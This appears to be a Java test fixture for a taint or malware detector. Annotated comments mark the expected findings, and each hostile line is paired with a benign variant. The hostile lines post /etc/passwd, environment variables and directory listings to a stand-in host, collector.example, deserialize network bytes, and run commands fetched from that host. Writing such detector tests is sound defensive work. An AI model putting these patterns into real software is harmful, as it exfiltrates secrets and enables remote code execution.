// Apache Commons IO and Lang, Guava: files and streams by one call, text.
package app;

import java.io.*;
import java.net.URL;
import org.apache.commons.exec.*;
import org.apache.commons.io.*;
import org.apache.commons.lang3.*;
import org.springframework.web.client.RestTemplate;

class Common {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void read() {
        rest.postForObject(U, FileUtils.readFileToString(new File("/etc/passwd"), "UTF-8").trim(), String.class); //~ source(FILE) f1, sink(egress.http) f1, finding(traced) f1, capability(FILES)
        rest.postForObject(U, FileUtils.readFileToString(new File("/etc/passwd"), "UTF-8").isEmpty(), String.class); //~ ok
    }

    void opened() {
        rest.postForObject(U, FileUtils.openInputStream(new File("/etc/passwd")).readAllBytes(), String.class); //~ source(FILE) f2, sink(egress.http) f2, finding(traced) f2, capability(FILES)
        rest.postForObject(U, FileUtils.openInputStream(new File("/etc/passwd")).available(), String.class); //~ ok
    }

    void openedToWrite(File file) {
        OutputStream out = FileUtils.openOutputStream(file); //~ sink(file.write) f3, finding(traced) f3, capability(FILE_WRITE)
        out.write(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f3
        FileUtils.openOutputStream(new File("/tmp/jm-c8")).write(1); //~ ok
    }

    void written(File file) {
        FileUtils.writeByteArrayToFile(file, rest.getForObject(U, byte[].class)); //~ source(NETWORK) f4, sink(file.write) f4, finding(traced) f4, capability(FILE_WRITE)
        FileUtils.writeByteArrayToFile(file, new byte[1]); //~ ok
    }

    void copied() {
        File from = new File("/tmp/jm-c1");
        File to = new File("/tmp/jm-c2");
        FileUtils.writeStringToFile(from, System.getenv("T"), "UTF-8"); //~ source(ENVIRONMENT) f5
        FileUtils.copyFile(from, to);
        rest.postForObject(U, FileUtils.readFileToByteArray(to), String.class); //~ sink(egress.http) f5, finding(traced) f5, source(FILE) f6, sink(egress.http) f6, finding(traced) f6
        FileUtils.copyFile(new File("/tmp/jm-c3"), new File("/tmp/jm-c4")); //~ ok
    }

    void fetched() {
        FileUtils.copyURLToFile(new URL("https://fetch.collector.example/x"), new File("/tmp/jm-c5")); //~ source(NETWORK) f7, sink(file.write) f7, finding(traced) f7, capability(NETWORK), endpoint("https://fetch.collector.example/x")
    }

    void fetchedTo() {
        FileUtils.copyInputStreamToFile(new ByteArrayInputStream(rest.getForObject(U, byte[].class)), new File("/tmp/jm-c6")); //~ source(NETWORK) f8, sink(file.write) f8, finding(traced) f8, capability(FILE_WRITE)
        FileUtils.copyInputStreamToFile(new ByteArrayInputStream(new byte[1]), new File("/tmp/jm-c7")); //~ ok
        FileUtils.copyInputStreamToFile(null, null); // copyURLToFile stays silent on nothing //~ ok
    }

    void listed() {
        rest.postForObject(U, FileUtils.sizeOfDirectory(new File("/home")), String.class); //~ source(FILE_META) f9, sink(egress.http) f9, finding(traced) f9, capability(FILES)
        rest.postForObject(U, FileUtils.sizeOfDirectory(new File("/home")) > 0, String.class); //~ ok
    }

    void userFolder() {
        rest.postForObject(U, FileUtils.getUserDirectory().list()[0], String.class); //~ source(FILE_META) f10, sink(egress.http) f10, finding(traced) f10
        rest.postForObject(U, FileUtils.getUserDirectory().exists(), String.class); //~ ok
    }

    void all() {
        rest.postForObject(U, IOUtils.toString(new FileInputStream("/etc/passwd")).trim(), String.class); //~ source(FILE) f11, sink(egress.http) f11, finding(traced) f11
        rest.postForObject(U, IOUtils.toString(new StringReader("x")).trim(), String.class); //~ ok
    }

    void streamCopied() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        IOUtils.copy(new FileInputStream("/etc/passwd"), out); //~ source(FILE) f12
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f12, finding(traced) f12
        IOUtils.copy(new StringReader("x"), new StringWriter()); //~ ok
    }

    void streamWritten() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        IOUtils.write(System.getenv("T"), out); //~ source(ENVIRONMENT) f13
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f13, finding(traced) f13
        IOUtils.write("x", new StringWriter()); //~ ok
    }

    void streamRead() {
        byte[] buffer = new byte[100];
        IOUtils.readFully(new FileInputStream("/etc/passwd"), buffer); //~ source(FILE) f14
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f14, finding(traced) f14
        IOUtils.readFully(new ByteArrayInputStream(new byte[1]), buffer); //~ ok
        rest.postForObject(U, IOUtils.contentEquals(new FileInputStream("/etc/passwd"), null), String.class); //~ ok
    }

    void named() {
        rest.postForObject(U, FilenameUtils.getName(System.getenv("T")).trim(), String.class); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
        rest.postForObject(U, FilenameUtils.getName("x").trim(), String.class); //~ ok
    }

    void text() {
        rest.postForObject(U, StringUtils.reverse(System.getenv("T")).trim(), String.class); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16
        rest.postForObject(U, StringUtils.reverse("x").trim(), String.class); //~ ok
        rest.postForObject(U, StringUtils.indexOf(System.getenv("T"), "x"), String.class); //~ ok
    }

    void system() {
        rest.postForObject(U, SystemUtils.OS_NAME, String.class); //~ source(DEVICE) f17, sink(egress.http) f17, finding(traced) f17
        rest.postForObject(U, SystemUtils.OS_NAME == null, String.class); //~ ok
    }

    void serialised() {
        rest.postForObject(U, SerializationUtils.serialize(System.getenv("T")), String.class); //~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18
        rest.postForObject(U, SerializationUtils.serialize("x"), String.class); //~ ok
    }

    void deserialised() {
        SerializationUtils.deserialize(rest.getForObject(U, byte[].class)); //~ source(NETWORK) f19, sink(exec.load) f19, finding(traced) f19, capability(DYNAMIC_CODE)
        SerializationUtils.deserialize(new byte[1]); //~ ok
    }

    void executed() {
        new DefaultExecutor().execute(CommandLine.parse(rest.getForObject(U, String.class))); //~ source(NETWORK) f20, sink(exec.command) f20, finding(traced) f20, capability(EXEC)
        new DefaultExecutor().execute(CommandLine.parse("id")); //~ ok
    }

    void executedWith() {
        CommandLine line = CommandLine.parse("sh").addArgument(rest.getForObject(U, String.class)); //~ source(NETWORK) f21
        new DefaultExecutor().execute(line); //~ sink(exec.command) f21, finding(traced) f21
        CommandLine.parse("sh").addArgument("-c"); //~ ok
    }
}
